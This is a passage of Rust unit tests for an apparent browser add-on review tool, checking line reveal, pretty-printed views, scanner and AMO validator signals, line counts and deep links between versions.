    let (store, _dir, mut session, _) = pair_with("a\n", "b\n");
    let changed = session.summary().files.len();
    let text = String::from_utf8(mv2_addon().file("content/content.js").unwrap().to_vec()).unwrap();
    let line = 12;
    let want = text.lines().nth(line - 1).unwrap().to_owned();
    let target = session
        .reveal_line(
            &store,
            "content/content.js",
            line as u32,
            ViewOptions::default(),
        )
        .unwrap();
    assert_eq!(target.file.change.status, FileStatus::Unchanged);
    assert_eq!(
        target.index as usize, changed,
        "appended after the changed files"
    );
    let rows = session
        .rows(&store, target.index as usize, target.row, 1, 0, 500)
        .unwrap();
    assert_eq!(row_text(&rows[0]), want);
    // Marking it viewed is remembered, but the review's progress counts changed files only.
    let viewed = session
        .set_viewed(&store, target.index as usize, true)
        .unwrap();
    assert_eq!(viewed, 0);
    assert!(session.summary().files[target.index as usize].viewed);
    let i = index_of(&session, "big.js");
    assert_eq!(session.set_viewed(&store, i, true).unwrap(), 1);
    // Past the end is an error that names the file and its length.
    let err = session
        .reveal_line(&store, "content/content.js", 10_000, ViewOptions::default())
        .unwrap_err();
    assert!(err.to_string().contains("content/content.js"), "{err}");
}

#[test]
fn revealing_a_stored_line_in_the_pretty_printed_view_lands_on_its_printed_line() {
    let old = "function a(){var x=1;return x}\nvar keep = 1;\n";
    let new = "function a(){var x=1;return x}function b(){return eval(3)}\nvar keep = 2;\n";
    let (store, _dir, mut session, _) = pair_with(old, new);
    let pretty = ViewOptions {
        pretty: true,
        ..ViewOptions::default()
    };
    // Line 2 as stored follows the minified line 1; printed, it is several lines further down.
    let target = session.reveal_line(&store, "big.js", 2, pretty).unwrap();
    assert!(target.layout.pretty, "the pretty layout is returned");
    let rows = session
        .rows(&store, target.index as usize, target.row, 1, 0, 500)
        .unwrap();
    let text = row_text(&rows[0]);
    assert!(text.contains("var keep = 2"), "landed on {text:?}");
    match &rows[0] {
        ViewRow::Line { new: Some(c), .. } => assert!(c.line > 2, "printed line {}", c.line),
        other => panic!("landed on {other:?}"),
    }
    // The same request without pretty-printing lands on the stored line.
    let plain = session
        .reveal_line(&store, "big.js", 2, ViewOptions::default())
        .unwrap();
    let rows = session
        .rows(&store, plain.index as usize, plain.row, 1, 0, 500)
        .unwrap();
    assert_eq!(row_text(&rows[0]), "var keep = 2;");
}

#[test]
fn files_with_signals_that_did_not_change_are_listed_so_every_signal_can_be_reached() {
    let (mut store, _dir, session, _) = pair_with("a\n", "b\n");
    let (a, b) = (session.summary().old.id, session.summary().new.id);
    let changed = session.summary().files.len();
    drop(session);
    // content/content.js is the same in both versions; missing.js is in neither.
    store_signals(
        &mut store,
        b,
        r#"{"scanners":[{"scanner":"yara","rule":"r","files":[
            {"path":"content/content.js","lines":[3]},
            {"path":"missing.js","lines":[1]},
            {"path":"big.js","lines":[1]}]}]}"#,
    );
    let mut session = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    let files = &session.summary().files;
    assert_eq!(
        files.len(),
        changed + 1,
        "only the unchanged flagged file is added"
    );
    let flagged = files.last().unwrap();
    assert_eq!(flagged.change.path, "content/content.js");
    assert_eq!(flagged.change.status, FileStatus::Unchanged);
    assert_eq!(
        session.summary().signals.len(),
        3,
        "every signal still counts"
    );
    let i = index_of(&session, "content/content.js");
    let layout = session
        .view_file(&store, i, ViewOptions::default())
        .unwrap();
    assert_eq!(layout.signals.len(), 1);
    // A local rule's match in another unchanged file lists that file too.
    let mut popup = local("mine", 1);
    popup.path = "popup/popup.js".into();
    session.set_local_signals(&store, [popup]).unwrap();
    assert!(
        session
            .summary()
            .files
            .iter()
            .any(|f| f.change.path == "popup/popup.js" && f.change.status == FileStatus::Unchanged)
    );
}

#[test]
fn amo_validator_findings_kept_with_a_fetched_version_become_its_signals() {
    // AMO's processed form (`type`, `id` as a list) and the linter's own (`_type`, `code`), as
    // addons-server's devhub/utils.py and addons-linter write them; a message without a file or
    // line points nowhere and is left out.
    let body = r#"{"validation": {
        "messages": [
            {"type": "warning", "id": ["UNSAFE_VAR_ASSIGNMENT"], "message": "Unsafe assignment to innerHTML",
             "file": "background.js", "line": 2, "column": 3},
            {"type": "notice", "id": ["NO_FILE"], "message": "not in a file"}
        ],
        "warnings": [{"_type": "warning", "code": "MANIFEST_PERMISSIONS", "message": "history",
                      "file": "manifest.json", "line": 4}]
    }}"#;
    let got = parse_validator_signals(body);
    assert_eq!(got.len(), 2, "{got:?}");
    assert_eq!(got[0].rule, "UNSAFE_VAR_ASSIGNMENT");
    assert_eq!(
        (got[0].path.as_str(), got[0].line, got[0].column),
        ("background.js", 2, Some(3))
    );
    assert_eq!(got[1].rule, "MANIFEST_PERMISSIONS");
    assert!(got.iter().all(|s| s.scanner == "AMO validator"));
    assert!(parse_validator_signals("[1, 2]").is_empty());

    // Kept with the newer version of a pair, they show when the review opens.
    let (store, _dir, old, new) = two_versions();
    store
        .set_findings(new, vetter_store::VALIDATOR_SOURCE, body)
        .unwrap();
    let session = ReviewSession::open(&store, old, new, Whitespace::All).unwrap();
    let shown = &session.summary().signals;
    assert!(
        shown
            .iter()
            .any(|s| s.rule == "UNSAFE_VAR_ASSIGNMENT" && s.path == "background.js"),
        "{shown:?}"
    );
}

#[test]
fn a_prepared_review_has_every_count_a_counted_open_review_has() {
    let (store, _dir, a, b) = two_versions();
    let prepared = ReviewSession::prepare(&store, a, b, Whitespace::All).unwrap();
    assert!(prepared.is_pair(a, b, Whitespace::All));
    assert!(!prepared.is_pair(b, a, Whitespace::All));
    assert_eq!(prepared.summary().pending, 0);
    assert!(prepared.line_counter().is_empty());

    let mut opened = ReviewSession::open(&store, a, b, Whitespace::All).unwrap();
    assert!(
        opened.summary().pending > 0,
        "the fixture leaves files to count"
    );
    let counter = opened.line_counter();
    let mut counted = Vec::new();
    counter.run(&store, |c| counted.push(c)).unwrap();
    for c in counted {
        opened.apply_counts(c);
    }
    let counts = |s: &ReviewSession| {
        s.summary()
            .files
            .iter()
            .map(|f| (f.change.path.clone(), f.change.added, f.change.removed))
            .collect::<Vec<_>>()
    };
    assert_eq!(counts(&prepared), counts(&opened));
    assert_eq!(prepared.summary().totals, opened.summary().totals);
}

#[test]
fn a_link_made_from_a_version_opens_that_version_against_the_one_before_at_its_line() {
    use crate::deeplink::{DeepLink, DeepLinkError, link_text};
    let (store, _dir, a, b) = two_versions();
    let text = link_text(&store, b, Some("background.js"), Some((3, 5))).unwrap();
    assert!(
        text.link.ends_with("/file/background.js#L3-5"),
        "{}",
        text.link
    );
    assert_eq!(text.reference.as_deref(), Some("* background.js#L3-5"));

    let target = DeepLink::parse(&text.link)
        .unwrap()
        .resolve(&store)
        .unwrap();
    assert_eq!((target.old, target.new), (a, b));
    assert_eq!(target.path.as_deref(), Some("background.js"));
    assert_eq!(target.line, Some(3));

    // An add-on link opens its latest pair; the oldest version has nothing before it.
    let addon = DeepLink::to_version(&store, b, None, None).unwrap();
    let whole = DeepLink {
        version: None,
        ..addon.clone()
    };
    assert_eq!(whole.resolve(&store).unwrap().new, b);
    let first = DeepLink::to_version(&store, a, None, None).unwrap();
    assert!(matches!(
        first.resolve(&store),
        Err(DeepLinkError::OnlyVersion { .. })
    ));
    let missing = DeepLink {
        version: Some("99.0".into()),
        ..addon
    };
    let e = missing.resolve(&store).unwrap_err().to_string();
    assert!(
        e.contains("version 99.0") && e.contains("not in the cache"),
        "{e}"
    );
}
